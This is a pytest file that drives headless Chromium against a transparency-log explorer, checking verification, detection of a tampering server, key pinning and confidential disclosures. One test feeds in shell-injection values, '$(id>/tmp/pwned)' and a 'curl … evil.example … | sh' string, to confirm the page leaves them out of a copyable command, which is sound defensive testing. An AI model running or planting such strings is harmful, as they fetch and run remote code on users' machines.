"""The regulator's explorer in real headless Chromium against a real log: an honest pipeline verifies on screen,
a lying server (through a proxy) is caught on screen, and the verifier key comes only from the reader.

Needs Debian's chromium (``.ci/run`` installs it) and Playwright for Python (a dev dependency; it drives the
system browser and downloads none). Without a Chromium the tests skip, saying so."""

from __future__ import annotations

import base64
import json
import os
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from atlas_log.checkpoint import Checkpoint, open_checkpoint, sign_checkpoint
from atlas_log.cosignature import CosignatureSigner
from atlas_log.note import Signer, Verifier
from atlas_log.pack import verify_pack
from atlas_log.reverify import Trust
from tests.conftest import ServerProcess, copy_database
from tests.pipeline import record_pipeline
from tests.proxy import TamperingProxy
from tests.test_regulator import sha

CHROMIUM = os.environ.get("ATLAS_CHROMIUM") or shutil.which("chromium") or shutil.which("chromium-browser")
ARTEFACTS = Path(__file__).resolve().parent.parent / "test-artifacts"
FLAGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]

pytestmark = pytest.mark.skipif(
    CHROMIUM is None, reason="no Chromium here: install Debian's chromium (.ci/run does) to run the explorer tests"
)


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    sync_api = pytest.importorskip("playwright.sync_api", reason="Playwright for Python is a dev dependency")
    with sync_api.sync_playwright() as pw:
        b = pw.chromium.launch(executable_path=CHROMIUM, headless=True, args=FLAGS)
        yield b
        b.close()


@pytest.fixture(scope="module")
def log(tmp_path_factory: pytest.TempPathFactory, pg_url: str, template_db: str) -> Iterator[ServerProcess]:
    """A pipeline with a map: dataset -> preprocessing -> training (with code) -> evaluation -> deployment."""
    server = ServerProcess(
        copy_database(pg_url, template_db, f"atlas_explorer_{id(tmp_path_factory)}"),
        tmp_path_factory.mktemp("explorer") / "data",
        env={"ATLAS_MAP_INTERVAL_S": "0.2"},
    )
    record_pipeline(server)
    yield server
    server.stop()


def _status(page: Any) -> tuple[str, str]:
    page.locator('#verification:not([data-verification="pending"])').wait_for(timeout=20_000)
    box = page.locator("#verification")
    return str(box.get_attribute("data-verification")), box.inner_text()


def _open(browser: Any, url: str) -> tuple[Any, Any]:
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    page = context.new_page()
    page.on("console", lambda m: print("browser:", m.text))  # shown when a test fails
    page.goto(url)
    return context, page


def _overlaps(page: Any) -> list[str]:
    """Edge labels of the lineage graph that overlap another label or a node, as drawn."""
    return list(
        page.evaluate(
            """() => {
              const box = (e) => e.getBBox();
              const labels = [...document.querySelectorAll("svg.lineage .edge > text")];
              const nodes = [...document.querySelectorAll("svg.lineage a.node > :not(title):not(text)")];
              const hit = (a, b) =>
                a.x < b.x + b.width && b.x < a.x + a.width && a.y < b.y + b.height && b.y < a.y + a.height;
              const out = [];
              labels.forEach((l, i) => {
                for (const m of labels.slice(i + 1)) {
                  if (hit(box(l), box(m))) out.push(`${l.textContent} on ${m.textContent}`);
                }
                for (const n of nodes) if (hit(box(l), box(n))) out.push(`${l.textContent} on a node`);
              });
              return out;
            }"""
        )
    )


def test_an_honest_artifact_page_verifies_and_draws_its_lineage(browser: Any, log: ServerProcess) -> None:
    context, page = _open(browser, f"{log.url}/explorer/artifact/{sha('m1')}?vkey={log.vkey}")
    try:
        kind, text = _status(page)
        assert kind == "ok", text
        assert "complete as of tree size" in text.lower()
        # The graph: a dataset, code, an evaluation between the test set and the model, a deployment.
        kinds = page.eval_on_selector_all("svg.lineage a.node", "ns => ns.map(n => n.getAttribute('class'))")
        assert any("dataset" in k for k in kinds) and any("evaluation" in k for k in kinds), kinds
        assert any("deployment" in k for k in kinds) and any("code" in k for k in kinds), kinds
        labels = page.eval_on_selector_all("svg.lineage .edge.evaluation text", "ts => ts.map(t => t.textContent)")
        assert "test set" in labels  # the test set is drawn as an evaluation's input, not as training data
        assert _overlaps(page) == [], _overlaps(page)  # every label readable
        assert page.locator("text=fraud-detector").first.is_visible()
        ARTEFACTS.mkdir(exist_ok=True)
        page.screenshot(path=str(ARTEFACTS / "explorer-artifact.png"), full_page=True)
        # The download button hands over the case as one file that verifies offline.
        with page.expect_download() as download:
            page.click("#download-pack")
        pack = Path(download.value.path()).read_bytes()
        verdict = verify_pack(pack, log.vkey, trust=Trust(tdx_roots=(log.platform.root_fingerprint,)))
        assert verdict.history_complete_as_of is not None and verdict.entries == 4
        # The command shown beside it trusts this development log's simulated roots, as it must to hold.
        command = page.locator("#verify-pack-command").inner_text()
        assert f"--tdx-root {log.platform.root_fingerprint}" in command and log.vkey in command, command
    finally:
        context.close()


def test_the_pack_command_shown_carries_only_fingerprints_of_what_the_log_names(
    browser: Any, log: ServerProcess
) -> None:
    """The roots a log names (its unsigned /api/v1/log) go into a command people copy: shell text in their place
    is left out, and what is shown is said to be the log's word."""
    proxy = TamperingProxy(log.url)

    def lie(url: httpx.URL, answer: Any) -> Any:
        if url.path != "/api/v1/log":
            return answer
        gpu = {"deviceRoot": "$(id>/tmp/pwned)", "rimRoot": {"not": "a string"}}
        evil = {"simulated": True, "simulatedRoot": "0" * 64 + "; curl -s https://evil.example/x | sh #", "gpu": gpu}
        return {**answer, "attestation": {**answer["attestation"], **evil}}

    proxy.on_get = lie
    context, page = _open(browser, f"{proxy.url}/explorer/artifact/{sha('m1')}?vkey={log.vkey}")
    try:
        _status(page)
        command = page.locator("#verify-pack-command").inner_text()
        assert "curl" not in command and "$(" not in command and "object" not in command, command
        assert "--tdx-root" not in command  # no fingerprint named: nothing added
    finally:
        context.close()
        proxy.close()


def test_a_mistyped_link_is_said_to_be_one_and_nothing_is_offered(browser: Any, log: ServerProcess) -> None:
    """A digest one character off, a malformed digest, an entry past the tree, a page that does not exist: the
    reader's mistakes, said plainly in neutral colours, never a green page nor a red failure."""
    real = sha("m1")
    typo = real[:-1] + ("0" if real[-1] != "0" else "1")
    context, page = _open(browser, f"{log.url}/explorer/artifact/{typo}?vkey={log.vkey}")
    try:
        kind, text = _status(page)
        assert kind == "notice" and "names this digest" in text and "no entry below tree size" in text, text
        assert page.locator("h1").inner_text() == "No entry names this artifact"
        assert page.locator(".full-digest").inner_text() == typo  # in full: the typo can be seen
        assert page.locator("#download-pack").count() == 0 and page.locator("svg.lineage").count() == 0
        for path, said in (
            ("artifact/sha256:deadbeef", "is not an artifact digest"),
            (f"artifact/{real[:-1]}", "has 64 hex digits, and this one has 63"),
            ("artifact/not-a-digest", "is not an artifact digest"),
            ("entry/999", "there is no entry #999"),
            ("entires/4", "there is no page"),
        ):
            page.goto(f"{log.url}/explorer/{path}?vkey={log.vkey}")
            kind, text = _status(page)
            assert kind == "notice" and said in text.lower(), (path, text)
            assert page.locator("text=Verifying").count() == 0 and page.locator(".failure").count() == 0
        mangled = log.vkey[:-2] + ("A" if log.vkey[-2] != "A" else "B") + log.vkey[-1]
        page.goto(f"{log.url}/explorer/log?vkey={mangled}")
        kind, text = _status(page)
        assert kind == "notice" and "the key in this link is not a verifier key" in text.lower(), text
    finally:
        context.close()


def test_search_to_artifact_to_entry(browser: Any, log: ServerProcess) -> None:
    context, page = _open(browser, f"{log.url}/explorer/?vkey={log.vkey}")
    try:
        kind, text = _status(page)
        assert kind == "ok", text
        # A first visit has something to open: the newest entries, each proved in the tree the page verified.
        size = int(text.split("checkpoint of tree size ")[1].split()[0])
        latest = page.locator("#latest a").all_inner_texts()
        assert latest and latest[0].startswith(f"#{size - 1} ") and len(latest) == min(10, size), latest
        # Each says what it is about, as its signed statement names it; the log's own entries what they cover.
        assert any("fraud-detector" in line for line in latest), latest
        assert all(":" in line for line in latest) and not any("https://" in line for line in latest), latest
        page.fill("#q", "fraud-detector")
        page.keyboard.press("Enter")
        kind, text = _status(page)
        assert kind == "incomplete" and "index lookup" in text, text  # a search is not proved complete
        page.locator("ol.results a", has_text="fraud-detector").first.click()
        kind, text = _status(page)
        assert kind == "ok" and "/explorer/artifact/" in page.url and "vkey=" in page.url, text
        page.locator("ol.timeline a").first.click()
        kind, text = _status(page)
        assert kind == "ok" and "/explorer/entry/" in page.url, text
        assert page.locator("text=TCB status").is_visible() and page.locator("pre.statement").is_visible()
        main = page.locator("#main").inner_text()
        assert "fraud-detector (sha256:" in main or "clean-dataset (sha256:" in main, main  # named, as signed
        page.go_back()
        assert _status(page)[0] == "ok" and "/explorer/artifact/" in page.url
    finally:
        context.close()


def _forged_checkpoint(log: ServerProcess) -> bytes:
    """A checkpoint of the log's current size over another root, signed with the log's own key: a fork."""
    signer = Signer.from_skey((log.data_dir / "log.key").read_text().strip())
    cp = open_checkpoint(httpx.get(log.url + "/checkpoint").content, Verifier.from_vkey(log.vkey))
    return sign_checkpoint(Checkpoint(cp.origin, cp.size, bytes(32)), signer)


@pytest.mark.parametrize("lie", ["drop-entry", "alter-leaf", "fork", "refuse", "fork-without-proof"])
def test_a_lying_server_is_caught_on_screen(browser: Any, log: ServerProcess, lie: str) -> None:
    proxy = TamperingProxy(log.url)
    context, page = _open(browser, f"{proxy.url}/explorer/artifact/{sha('m1')}?vkey={log.vkey}")
    try:
        assert _status(page)[0] == "ok"  # honest first: the browser remembers the tree it verified
        if lie == "drop-entry":

            def drop(url: httpx.URL, answer: Any) -> Any:
                return {**answer, "entries": answer["entries"][1:]} if url.path.endswith("/history") else answer

            proxy.on_get = drop
        elif lie == "alter-leaf":

            def alter(url: httpx.URL, answer: Any) -> Any:
                if not url.path.endswith("/history"):
                    return answer
                first = answer["entries"][0]
                leaf = json.loads(base64.b64decode(first["leaf"]))
                leaf["integratedTime"] += 1
                forged = json.dumps(leaf, separators=(",", ":"), sort_keys=True).encode()
                return {
                    **answer,
                    "entries": [{**first, "leaf": base64.b64encode(forged).decode()}, *answer["entries"][1:]],
                }

            proxy.on_get = alter
        elif lie == "fork-without-proof":
            # A bigger tree over another root, and a refusal where the proof that it extends the first should be.
            signer = Signer.from_skey((log.data_dir / "log.key").read_text().strip())
            cp = open_checkpoint(httpx.get(log.url + "/checkpoint").content, Verifier.from_vkey(log.vkey))
            bigger = sign_checkpoint(Checkpoint(cp.origin, cp.size + 1, b"\x66" * 32), signer)
            proxy.on_text = lambda url, body: bigger if url.path == "/checkpoint" else body
            problem = {"type": "about:blank", "title": "Bad request", "status": 400, "detail": "try again later"}
            proxy.refuse = lambda url: (400, problem) if url.path.endswith("/proofs/consistency") else None
            page.goto(f"{proxy.url}/explorer/log?vkey={log.vkey}")
            kind, text = _status(page)
            assert kind == "failed" and "may have forked" in text, text
            return
        elif lie == "refuse":
            # A log refusing a well-formed question (as if the reader had made a mistake) to hide the answer.
            problem = {"type": "about:blank", "title": "Not found", "status": 404, "detail": "no such artifact"}
            proxy.refuse = lambda url: (404, problem) if url.path.endswith("/history") else None
            page.reload()
            kind, text = _status(page)
            assert kind == "failed" and "no such artifact" in text, text
            return
        else:
            forged = _forged_checkpoint(log)
            proxy.on_text = lambda url, body: forged if url.path == "/checkpoint" else body
            page.goto(f"{proxy.url}/explorer/log?vkey={log.vkey}")
            kind, text = _status(page)
            assert kind == "failed" and "forked" in text, text
            return
        page.reload()
        kind, text = _status(page)
        assert kind == "failed", text
        assert ("incomplete" in text or "gap" in text) if lie == "drop-entry" else "another root" in text, text
    finally:
        context.close()
        proxy.close()


def test_the_key_comes_from_the_reader_and_is_pinned(browser: Any, log: ServerProcess) -> None:
    context, page = _open(browser, f"{log.url}/explorer/")
    try:
        kind, text = _status(page)
        assert kind == "notice" and "pin the log's verifier key" in text.lower(), text  # never from the server
        page.fill("#key-input", log.vkey)
        page.click("#key-form button")
        assert _status(page)[0] == "ok"
        fingerprint = page.locator("#key-summary").inner_text()
        assert "fingerprint" in fingerprint
        assert "+".join(log.vkey.split("+")[:2]) in fingerprint  # the key's name and ID, as the banner prints them
        page.goto(f"{log.url}/explorer/log")  # no key in the link: the pinned one
        assert _status(page)[0] == "ok" and page.locator("#key-summary").inner_text() == fingerprint
        other = Signer.generate(Verifier.from_vkey(log.vkey).name).verifier.vkey
        page.goto(f"{log.url}/explorer/log?vkey={other}")  # a link with another key for the same origin
        kind, text = _status(page)
        assert kind == "failed" and "not signed by the key this page verifies with" in text, text
        assert "This link's key" in text and "is not the one you pinned" in text, text  # whose key failed
        assert page.locator("text=Verifying").count() == 0
    finally:
        context.close()


def test_witnesses_named_without_a_quorum_must_all_cosign(browser: Any, log: ServerProcess) -> None:
    """A link or a pin naming a witness asks for its cosignature (as the command line does): this log's
    checkpoints carry none, so the page fails, unless the reader says that none need cosign."""
    from urllib.parse import quote

    witness = CosignatureSigner("witness.example", Ed25519PrivateKey.generate()).verifier.vkey
    context, page = _open(browser, f"{log.url}/explorer/log?vkey={quote(log.vkey)}&witness={quote(witness)}")
    try:
        kind, text = _status(page)
        assert kind == "failed" and "cosign" in text.lower(), text
        page.goto(f"{log.url}/explorer/log?vkey={quote(log.vkey)}&witness={quote(witness)}&quorum=0")
        assert _status(page)[0] == "ok"
        # Pinned in the form with the quorum left empty: all of them.
        page.goto(f"{log.url}/explorer/log")
        page.locator("#key-panel summary").click()
        page.fill("#key-input", log.vkey)
        page.fill("#witness-input", witness)
        page.fill("#quorum-input", "")
        page.click("#key-form button")
        kind, text = _status(page)
        assert kind == "failed" and "cosign" in text.lower(), text
    finally:
        context.close()


def test_keyboard_and_a_narrow_screen(browser: Any, log: ServerProcess) -> None:
    context = browser.new_context(viewport={"width": 375, "height": 800})
    page = context.new_page()
    try:
        page.goto(f"{log.url}/explorer/artifact/{sha('m1')}?vkey={log.vkey}")
        assert _status(page)[0] == "ok"
        # Nothing but the lineage drawing (which scrolls inside its frame) is wider than a phone's screen.
        wide = page.evaluate("() => document.documentElement.scrollWidth - document.documentElement.clientWidth")
        assert wide <= 0, f"the page is {wide}px wider than the screen"
        # Tab through the page to the history and open the newest entry with Enter.
        for _ in range(60):
            page.keyboard.press("Tab")
            if page.evaluate("() => document.activeElement.closest('ol.timeline') !== null"):
                break
        else:
            pytest.fail("the history cannot be reached with the keyboard")
        page.keyboard.press("Enter")
        kind, text = _status(page)
        assert kind == "ok" and "/explorer/entry/" in page.url, text
    finally:
        context.close()


def test_an_entry_signed_with_a_certificate_shows_its_identity(
    browser: Any, pg_url: str, template_db: str, tmp_path: Path
) -> None:
    from tests.test_bundles import _submission
    from tests.vectors import vectors_dir

    roots = vectors_dir("model-signing", "keys") / "ca-cert.pem"
    db = copy_database(pg_url, template_db, f"atlas_explorer_cert_{id(tmp_path)}")
    server = ServerProcess(db, tmp_path / "data", env={"ATLAS_X509_ROOTS_FILE": str(roots)})
    try:
        sub, _, _ = _submission(server, "v1.1.0-certificate", False)
        r = httpx.post(server.url + "/api/v1/entries", json=sub, timeout=30)
        assert r.status_code == 201, r.text
        cert = json.loads(base64.b64decode(r.json()["leaf"]))["body"]["signatures"][0]["verifier"]["certificate"]
        context, page = _open(browser, f"{server.url}/explorer/entry/{r.json()['logIndex']}?vkey={server.vkey}")
        try:
            kind, text = _status(page)
            assert kind == "ok", text
            who = ", ".join(cert["san"]) or cert["subject"]
            assert page.locator(f"text={who} (certificate issued by").first.is_visible()
            assert page.locator("pre.statement").is_visible()  # the bundle's statement, decoded
        finally:
            context.close()
    finally:
        server.stop()


def test_the_explorer_loads_only_its_own_files(log: ServerProcess) -> None:
    """Served with a policy that allows nothing from another origin and no inline script."""
    for path in ("/explorer/", "/explorer/artifact/sha256:00", "/explorer/assets/app.js"):
        r = httpx.get(log.url + path)
        assert r.status_code == 200, path
        csp = r.headers["content-security-policy"]
        assert "default-src 'self'" in csp and "script-src 'self'" in csp and "unsafe" not in csp, csp
    assert httpx.get(log.url + "/explorer/assets/nothing.js").status_code == 404
    home = httpx.get(log.url + "/", follow_redirects=True)  # the log's address in a browser
    assert home.status_code == 200 and home.url.path == "/explorer/" and 'id="verification"' in home.text


def test_a_confidential_entry_shows_what_is_hidden_and_reveals_it_to_a_grant_holder(
    browser: Any, pg_url: str, template_db: str, tmp_path: Path
) -> None:
    import hashlib

    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    from atlas_log.disclosure import redact
    from atlas_log.submission import signed_submission
    from tests.test_confidential import ADMIN, CANARY, DATASET_DIGEST, HIDDEN, SECRET_DATA, _statement

    server = ServerProcess(
        copy_database(pg_url, template_db, f"atlas_explorer_confidential_{id(tmp_path)}"),
        tmp_path / "data",
        env={"ATLAS_ADMIN_TOKEN_SHA256": hashlib.sha256(ADMIN.encode()).hexdigest()},
    )
    try:
        admin = {"Authorization": f"Bearer {ADMIN}"}
        with httpx.Client(base_url=server.url, timeout=30) as http:
            assert http.put("/admin/v1/tenants/vendor", json={"ratePerSecond": 9, "burst": 9}, headers=admin).is_success
            vendor = http.post("/admin/v1/tenants/vendor/tokens", json={}, headers=admin).json()["token"]
            grant = http.post("/admin/v1/tenants/vendor/grants", json={"holder": "regulator"}, headers=admin).json()
            # The entry hides its dataset's digest too: it is indexed by the blinded twin only.
            bearer = {"Authorization": f"Bearer {vendor}"}
            key = base64.b64decode(http.get("/api/v1/blinding-key", headers=bearer).json()["key"])
            redacted, disclosures = redact(_statement(7), [*HIDDEN, DATASET_DIGEST], blinding_key=key)
            payload = json.dumps(redacted).encode()
            sub = signed_submission(Ed25519PrivateKey.generate(), payload, server.platform, disclosures=disclosures)
            index = http.post("/api/v1/entries", json=sub, headers=bearer).json()["logIndex"]
        context, page = _open(browser, f"{server.url}/explorer/entry/{index}?vkey={server.vkey}")
        try:
            kind, text = _status(page)
            assert kind == "ok", text
            box = page.locator("#confidential")
            assert "4 values are hidden" in box.inner_text()
            assert CANARY not in page.content()
            page.fill("#grant-token", "atl_0123456789abcdef_" + "A" * 43)
            page.click("#confidential button")
            page.locator(".revealed-failed").wait_for(timeout=10_000)
            page.fill("#grant-token", grant["token"])
            page.click("#confidential button")
            page.locator("#revealed").wait_for(timeout=10_000)
            assert CANARY in page.locator("#revealed").inner_text()
            assert "each checked against the digest" in box.inner_text()
            assert SECRET_DATA in page.locator("#revealed").inner_text()
            assert page.locator(".revealed-partial").count() == 0
            # A log that leaves a value out is not taken to have shown all: the page says what stays hidden.
            proxy = TamperingProxy(server.url)
            proxy.on_get = lambda url, answer: (
                {**answer, "disclosures": answer["disclosures"][1:]} if url.path.endswith("/disclosures") else answer
            )
            try:
                page.goto(f"{proxy.url}/explorer/entry/{index}?vkey={server.vkey}")
                assert _status(page)[0] == "ok"
                page.fill("#grant-token", grant["token"])
                page.click("#confidential button")
                page.locator(".revealed-partial").wait_for(timeout=10_000)
                assert "1 more value stays hidden" in page.locator(".revealed-partial").inner_text()
            finally:
                proxy.close()
            # A grant holder finds the entries hiding the dataset by its real digest, from the search page.
            page.goto(f"{server.url}/explorer/")
            _status(page)
            page.click(".hidden-artifacts summary")
            page.fill("#hidden-digest", f"sha256:{SECRET_DATA}")
            page.fill("#hidden-token", grant["token"])
            page.click(".hidden-lookup button")
            page.locator("#hidden-of").wait_for(timeout=15_000)
            kind, text = _status(page)
            assert kind in ("ok", "incomplete") and "Failed" not in text, text
            assert f"#{index}" in page.locator(".timeline").inner_text()
            assert "blinded+sha256:" in page.url
        finally:
            context.close()
    finally:
        server.stop()


def test_an_entry_page_shows_its_gpus_and_the_logs_map_commitment(browser: Any, log: ServerProcess) -> None:
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    from atlas_log.testing.demo import demo_submission

    sub = demo_submission(Ed25519PrivateKey.generate(), 0, log.platform, gpus=log.gpu)
    posted = httpx.post(log.url + "/api/v1/entries", json=sub, timeout=30)
    assert posted.status_code == 201, posted.text
    commitment = next(
        i
        for i in range(posted.json()["logIndex"])
        if json.loads(base64.b64decode(httpx.get(f"{log.url}/api/v1/entries/{i}").json()["leaf"]))["body"].get(
            "apiVersion"
        )
        == "atlas-log/map-commitment/v2"
    )
    for index, shown in (
        (
            posted.json()["logIndex"],
            ["GPU 0 (simulated", "NVIDIA HOPPER", "every one matches", "RTMRs", "good: the device chain's certificate"],
        ),
        (commitment, ["the log's map commitment", "Covers", "Map root"]),
    ):
        context, page = _open(browser, f"{log.url}/explorer/entry/{index}?vkey={log.vkey}")
        try:
            kind, text = _status(page)
            assert kind == "ok", text
            main = page.locator("#main").inner_text()
            for words in shown:
                assert words in main, (words, main)
        finally:
            context.close()


def test_a_nodes_kind_follows_the_statements_ml_role_before_its_name(browser: Any, log: ServerProcess) -> None:
    """Tensors named raw.pt and clean.pt, annotated as training data, are drawn as datasets (their names say
    nothing); the model trained from them as a model; edges stated by two entries are drawn once."""
    import hashlib

    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    from atlas_log.client import LogClient
    from atlas_log.pipeline import record_step, training_statement
    from atlas_log.testing.simulate import SimulatedProvider

    def h(name: str) -> str:
        return hashlib.sha256(f"ml-role {name}".encode()).hexdigest()

    key, tee, by = Ed25519PrivateKey.generate(), SimulatedProvider(log.platform), "https://pipelines.example.com/t"
    raw, clean = {"raw.pt": (h("raw"), "training-data")}, {"clean.pt": (h("clean"), "training-data")}
    steps = [
        training_statement({"clean.pt": h("clean")}, raw, builder=by),
        training_statement({"weights": h("model")}, clean, builder=by),
        training_statement({"weights": h("model")}, clean, builder=by, parameters={"run": 2}),
    ]
    with httpx.Client(base_url=log.url, timeout=30) as http:
        client = LogClient(http, log.vkey)
        for statement in steps:
            record_step(client, key, statement, tee)
    context, page = _open(browser, f"{log.url}/explorer/artifact/sha256:{h('model')}?vkey={log.vkey}")
    try:
        _status(page)
        nodes = page.eval_on_selector_all(
            "svg.lineage a.node", "ns => ns.map(n => [n.querySelector('text').textContent, n.getAttribute('class')])"
        )
        kinds = {name: cls.split()[1] for name, cls in nodes}
        assert kinds["raw.pt"] == "dataset" and kinds["clean.pt"] == "dataset" and kinds["weights"] == "model", kinds
        labels = page.eval_on_selector_all("svg.lineage .edge > text", "ts => ts.map(t => t.textContent)")
        assert labels.count("input") == 2, labels  # clean.pt -> weights, stated twice, drawn once
        assert _overlaps(page) == [], _overlaps(page)
    finally:
        context.close()
